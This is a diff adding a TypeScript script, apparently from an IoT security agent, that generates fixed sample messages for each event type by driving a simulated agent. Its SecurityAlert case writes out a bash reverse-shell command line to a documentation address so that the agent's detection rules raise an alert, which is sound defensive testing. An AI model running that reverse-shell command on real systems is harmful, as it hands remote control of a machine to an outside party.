@@ -1,0 +1,302 @@
+/* One message of every event for config/samples/, made by the agent's own parts: what its sources would read is given, and the
+ * kernel and the hub are left out. Ids, times and process ids are fixed, so that the files change only when messages do. */
+
+import crypto, { hash } from 'node:crypto';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { syncBuiltinESMExports } from 'node:module';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import sinon from 'sinon';
+import { systemClock } from '../src/base/clock.ts';
+import { hours, minutes, seconds } from '../src/base/duration.ts';
+import { stableId } from '../src/base/stable-id.ts';
+import { BaselineEngine } from '../src/baseline/engine.ts';
+import { collectors } from '../src/collectors/index.ts';
+import { TwinConfiguration } from '../src/config/twin-configuration.ts';
+import type { BaselineReport } from '../src/contract/baseline.ts';
+import type { Collector } from '../src/contract/collector.ts';
+import { type Message, propertiesOf } from '../src/contract/message.ts';
+import type { ConfigurationFault, Lookups, Sources } from '../src/contract/sources.ts';
+import { Alerts } from '../src/detections/alerts/alerts.ts';
+import { builtInRules } from '../src/detections/built-in.ts';
+import { Detections } from '../src/detections/detections.ts';
+import { ChangeNotices } from '../src/pipeline/notices.ts';
+import { RUNNING, withTree } from '../test/baseline/tree.ts';
+import { look, records, sources } from '../test/collectors/samples.ts';
+import { publishedDialect } from '../test/config/published.ts';
+import { quietLog } from '../test/pipeline/memory-queues.ts';
+import { SimulatedAgent } from '../test/pipeline/simulated-agent.ts';
+import { type DocumentGenerator, GENERATED, table } from './documents.ts';
+
+const FOLDER = 'config/samples';
+const BEGIN = new Date('2026-03-04T05:06:07.089Z');
+/** From one event to the next one. */
+const STEP = hours(1);
+const ZONE = 'Europe/Berlin';
+const PROCESS_ID = 641;
+const DEVICE = { deviceId: 'pump-7', moduleId: 'azureiotsecurity' };
+
+/** As a digest of a file would be: these files are not at hand. */
+const digestOf = (path: string) => hash('sha256', path, 'hex');
+
+const CONTAINER = digestOf('a container');
+
+const lookups: Lookups = {
+  ...look,
+  started: ({ executable = '' }) => ({ containerId: CONTAINER, sha256: digestOf(executable) }),
+};
+
+/** The system of the samples is a board, without a hypervisor, and not itself in a container. */
+async function systemFacts() {
+  const { hypervisor: _, container: __, ...facts } = await sources.system.facts();
+  return facts;
+}
+
+/** Two rules that a system does not meet, judged by the engine. */
+function scanned(): Promise<BaselineReport> {
+  const only = ['sshd.permitrootlogin', 'sysctl.kernel.kptr_restrict'];
+  const files = {
+    ...RUNNING,
+    'etc/ssh/sshd_config': 'PermitRootLogin yes\n',
+    'usr/sbin/sshd': { mode: 0o755 },
+    'proc/sys/kernel/kptr_restrict': '0\n',
+  };
+  return withTree(files, ({ root }) =>
+    new BaselineEngine({ hostRoot: root, clock: systemClock, inContainer: false }).scan(
+      { level: 1, walk: false, groupsDisabled: [], checksDisabled: [], roles: [], only },
+      new AbortController().signal,
+    ),
+  );
+}
+
+/** A sample: the message of one event, as the hub gives it to a consumer. */
+export interface MessageSample {
+  readonly event: string;
+  /** The record of it that `vakt emulator --record` writes, with the body parsed. */
+  readonly record: Readonly<Record<string, unknown>>;
+}
+
+/** One message of every event, in the order of the collectors. They are one chain. */
+export async function makeSamples(): Promise<readonly MessageSample[]> {
+  const report = await scanned();
+  const facts = await systemFacts();
+  const from = {
+    ...sources,
+    system: { facts: async () => facts },
+    baseline: { ...sources.baseline, scan: async () => report },
+  };
+  return withFixedValues(async (time) => {
+    const device = new SampledDevice(from, time);
+    await device.start();
+    const samples: MessageSample[] = [];
+    for (const [index, collector] of collectors.entries()) {
+      const at = new Date(BEGIN.getTime() + (index + 1) * STEP);
+      await time.tickAsync(at.getTime() - Date.now());
+      samples.push({ event: collector.name, record: recordOf(await device.sample(collector), at) });
+    }
+    await device.stop();
+    return samples;
+  });
+}
+
+/** @param at the beginning of what the message is about */
+const recordOf = (message: Message, at: Date) => {
+  const { system, application } = propertiesOf(message);
+  return {
+    enqueuedAt: new Date(at.getTime() + STEP / 2).toISOString(),
+    ...DEVICE,
+    systemProperties: system,
+    applicationProperties: application,
+    body: JSON.parse(message.body),
+  };
+};
+
+/** Makes what differs from run to run the same: the clock, the time zone, random UUIDs, the process id. */
+async function withFixedValues<T>(work: (time: sinon.SinonFakeTimers) => Promise<T>): Promise<T> {
+  const { randomUUID } = crypto;
+  const zone = process.env.TZ;
+  const pid = Object.getOwnPropertyDescriptor(process, 'pid') as PropertyDescriptor;
+  let ids = 0;
+  crypto.randomUUID = () => stableId(`sample ${++ids}`) as ReturnType<typeof randomUUID>;
+  syncBuiltinESMExports();
+  process.env.TZ = ZONE;
+  Object.defineProperty(process, 'pid', { ...pid, value: PROCESS_ID });
+  const time = sinon.useFakeTimers({ now: BEGIN, toFake: ['setTimeout', 'clearTimeout', 'Date', 'performance'] });
+  try {
+    return await work(time);
+  } finally {
+    time.restore();
+    Object.defineProperty(process, 'pid', pid);
+    if (zone === undefined) delete process.env.TZ;
+    else process.env.TZ = zone;
+    crypto.randomUUID = randomUUID;
+    syncBuiltinESMExports();
+  }
+}
+
+/** An agent whose sources are asked for one event after the other. */
+class SampledDevice {
+  readonly #agent: SimulatedAgent;
+  readonly #time: sinon.SinonFakeTimers;
+  readonly #detections: Detections;
+  readonly #configuration: TwinConfiguration;
+  readonly #folder = mkdtempSync(join(tmpdir(), 'vakt-samples-'));
+  #faults: readonly ConfigurationFault[] = [];
+
+  constructor(from: Omit<Sources, 'statistics'>, time: sinon.SinonFakeTimers) {
+    const agent = new SimulatedAgent({ sources: from, lookups });
+    const { occurrences, triggers, publisher, settings, origin } = agent;
+    const parts = { clock: systemClock, log: quietLog() };
+    const alerts = new Alerts({
+      raise: (record) => occurrences.accept('alerts', [record]),
+      sendEarly: () => {},
+      policy: () => settings.current().detections,
+      origin,
+      ...parts,
+    });
+    this.#detections = new Detections({
+      isOn: () => true,
+      rules: builtInRules(),
+      lists: () => ({ ...settings.current().detections.lists, badAddresses: [] }),
+      alerts,
+      programOf: () => ({ executable: '/usr/sbin/nginx', commandLine: 'nginx: worker process' }),
+      idOf: (occurrence) => triggers.idOf(occurrence),
+      collectors: () => [],
+      isPaused: () => false,
+      snapshotPeriod: () => hours(13),
+      ...parts,
+      changed: () => {},
+      stateChanged: () => {},
+    });
+    occurrences.offerTo(this.#detections);
+    const notices = new ChangeNotices({
+      announce: (line) => {
+        for (const batch of occurrences.translate('log', [line])) triggers.announce(batch);
+        publisher.sendHighWithin(minutes(7));
+      },
+      ...parts,
+    });
+    this.#configuration = new TwinConfiguration({
+      dialect: publishedDialect(),
+      lastGoodFile: join(this.#folder, 'last-good-configuration.json'),
+      onFaults: (faults) => {
+        this.#faults = faults;
+      },
+      changed: (change) => notices.accept(change),
+      ...parts,
+    });
+    this.#agent = agent;
+    this.#time = time;
+  }
+
+  async start(): Promise<void> {
+    await this.#agent.startWithoutSnapshots();
+    await this.#detections.start();
+  }
+
+  async stop(): Promise<void> {
+    await this.#detections.stop();
+    await this.#agent.stop(this.#time);
+    rmSync(this.#folder, { recursive: true });
+  }
+
+  /** Makes the event happen, and returns its message. */
+  async sample(collector: Collector): Promise<Message> {
+    const { messages, snapshots, aggregator, publisher } = this.#agent;
+    const before = messages.length;
+    if (collector.category === 'Periodic') await snapshots.takeNow([collector.name]);
+    else await this.#happens(collector.name);
+    if (collector.name !== 'SecurityAlert') aggregator.flush(); // what raised the alert is still counted
+    await this.#passing(publisher.flush(seconds(20)));
+    const [sent, ...more] = messages.slice(before);
+    if (sent === undefined) throw new Error(`${collector.name} makes no message`);
+    if (more.length > 0) throw new Error(`${collector.name} makes ${more.length + 1} messages`);
+    return sent.message;
+  }
+
+  async #happens(event: string): Promise<void> {
+    const { occurrences } = this.#agent;
+    const time = new Date();
+    switch (event) {
+      case 'ProcessCreate':
+        for (const _ of [1, 2, 3]) {
+          const now = new Date();
+          occurrences.accept('starts', [{ ...records.starts, time: now, startedAt: now }]);
+          await this.#time.tickAsync(minutes(5));
+        }
+        return;
+      case 'ProcessTerminate':
+        return occurrences.accept('exits', [{ ...records.exits, time }]);
+      case 'ConnectionCreate':
+        for (const port of [50_112, 50_118]) {
+          const local = { address: '2001:db8::1', port };
+          occurrences.accept('connections', [{ ...records.connections, local, time: new Date() }]);
+          await this.#time.tickAsync(minutes(10));
+        }
+        return;
+      case 'Login':
+        return occurrences.accept('logins', [{ ...records.logins, time }]);
+      case 'Diagnostic':
+        return this.#configure({ maxMessageSizeInBytes: { value: 10_000 } });
+      case 'ConfigurationError':
+        return occurrences.accept('configuration', this.#faults);
+      case 'SecurityAlert': {
+        const commandLine = 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
+        const start = { ...records.starts, executable: '/usr/bin/bash', commandLine, userId: 0, time, startedAt: time };
+        return occurrences.accept('starts', [start]);
+      }
+      default:
+        throw new Error(`scripts/message-samples.ts does not know how to make ${event} happen`);
+    }
+  }
+
+  #configure(object: object): void {
+    this.#configuration.apply({ $version: 7, ...publishedDialect().sectionWith(object) });
+  }
+
+  /** Lets time pass until the work is done; how much may differ from run to run. */
+  async #passing(work: Promise<unknown>): Promise<void> {
+    let isDone = false;
+    const done = work.finally(() => {
+      isDone = true;
+    });
+    while (!isDone) await this.#time.tickAsync(seconds(1));
+    await done;
+  }
+}
+
+let made: Promise<readonly MessageSample[]> | undefined;
+const samples = () => {
+  made ??= makeSamples();
+  return made;
+};
+
+async function sampleFile(event: string): Promise<string> {
+  const sample = (await samples()).find((each) => each.event === event);
+  return `${JSON.stringify(sample?.record, null, 2)}\n`;
+}
+
+const readme = () => `<!-- ${GENERATED} -->
+
+# One message of every event
+
+Made by the agent's own collectors, aggregation, queues and packing from facts that a device has; \`npm run docs\` writes them,
+and a test holds that they are what this version sends, and valid by
+[message.schema.json](../schemas/message.schema.json). Ids, times and the process id are fixed.
+
+${table(
+  ['File', 'Content'],
+  collectors.map(({ name, summary }) => [`[${name}.json](${name}.json)`, summary]),
+)}
+
+Each file is a message as \`vakt emulator --record\` writes it, on several lines and with its body parsed: \`deviceId\`, \`moduleId\` and
+\`enqueuedAt\` are what the hub adds, \`systemProperties\` and \`applicationProperties\` what the agent sets, named as in routing
+queries. Together they are the chain of one agent, numbered in the order of the table ([contract §3](../../docs/contract.md#3-messages)).
+Here a message has events of one name only; otherwise it has whatever was waiting. ProcessCreate, ProcessTerminate and
+ConnectionCreate are aggregated, as by default: \`HitCount\` occurrences between \`StartTimeUtc\` and \`EndTimeUtc\`.
+`;
+
+export const sampleDocuments: readonly DocumentGenerator[] = [
+  { path: `${FOLDER}/README.md`, generate: readme },
+  ...collectors.map(({ name }) => ({ path: `${FOLDER}/${name}.json`, generate: () => sampleFile(name) })),
+];
